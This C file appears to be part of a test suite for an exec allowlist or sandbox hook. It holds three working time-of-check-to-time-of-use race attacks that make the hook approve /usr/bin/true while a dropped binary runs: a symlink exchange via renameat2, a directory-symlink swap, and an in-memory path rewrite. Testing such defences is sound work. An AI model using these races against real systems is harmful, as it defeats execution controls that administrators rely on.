// Attacks on the moment between looking at a file and running it.
#include "attack.h"

#include <pthread.h>
#include <stdatomic.h>
#include <sys/syscall.h>

// Attempts per race; each costs a fork.
#define ATTEMPTS 150
#define ALLOWED "/usr/bin/true"
#define RENAME_EXCHANGE 2

static atomic_bool over;
static const char *contested;
static void (*swap)(void);

static void *swapping(void *unused) {
  while (!atomic_load(&over))
    swap();
  return unused;
}

// Fills the second that the attack has: swaps in one thread, runs in forks of the other.
static void race(void (*body)(void)) {
  pthread_t thread;
  atomic_store(&over, 0);
  if (pthread_create(&thread, NULL, swapping, NULL) != 0)
    return;
  for (int attempt = 0; attempt < ATTEMPTS && access("/tmp/proof", F_OK) != 0; attempt++) {
    pid_t child = fork();
    if (child == 0) {
      body();
      _exit(111);
    }
    if (child > 0)
      waitpid(child, NULL, 0);
  }
  atomic_store(&over, 1);
  pthread_join(thread, NULL);
}

static void execute_contested(void) {
  char *arguments[] = {(char *)contested, NULL};
  execve(contested, arguments, environ);
}

static void exchange(void) {
  syscall(SYS_renameat2, AT_FDCWD, "/tmp/contested", AT_FDCWD, "/tmp/other", RENAME_EXCHANGE);
}

// A link to an allowed program and one to the dropped program change places.
ATTACK(race_of_links) {
  drop(STATIC, "/tmp/x");
  symlink(ALLOWED, "/tmp/contested");
  symlink("/tmp/x", "/tmp/other");
  contested = "/tmp/contested";
  swap = exchange;
  race(execute_contested);
}

// The same with a folder on the way.
ATTACK(race_of_folders) {
  mkdir("/tmp/other", 0755);
  drop(STATIC, "/tmp/other/true");
  symlink("/usr/bin", "/tmp/contested");
  contested = "/tmp/contested/true";
  swap = exchange;
  race(execute_contested);
}

static char shared_path[64];

static void rewrite(void) {
  strcpy(shared_path, ALLOWED);
  strcpy(shared_path, "/tmp/x");
}

// The name itself changes in memory, between the hook's look and the kernel's.
ATTACK(race_of_names) {
  drop(STATIC, "/tmp/x");
  rewrite();
  contested = shared_path;
  swap = rewrite;
  // The child has a copy of the memory, so the swapping thread has to live in the child.
  for (int attempt = 0; attempt < ATTEMPTS && access("/tmp/proof", F_OK) != 0; attempt++) {
    pid_t child = fork();
    if (child == 0) {
      pthread_t thread;
      atomic_store(&over, 0);
      if (pthread_create(&thread, NULL, swapping, NULL) == 0) {
        for (int round = 0; round < 20; round++)
          execute_contested();
      }
      _exit(111);
    }
    if (child > 0)
      waitpid(child, NULL, 0);
  }
}
